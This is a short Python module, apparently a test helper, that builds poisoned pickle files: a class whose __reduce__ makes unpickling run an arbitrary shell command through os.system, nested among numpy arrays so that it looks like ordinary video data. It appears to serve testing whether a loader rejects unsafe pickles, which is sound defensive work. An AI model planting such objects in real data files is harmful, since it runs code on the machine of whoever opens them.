"""Write pickles that do what no array needs."""

from __future__ import annotations

import os
from typing import Any

import numpy as np


class Command:
    """Run a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def poisoned(command: str) -> dict[str, Any]:
    """Hide a command among arrays."""
    return {"film": {"video": np.zeros((2, 3, 4, 3), np.uint8), "points": Command(command)}}
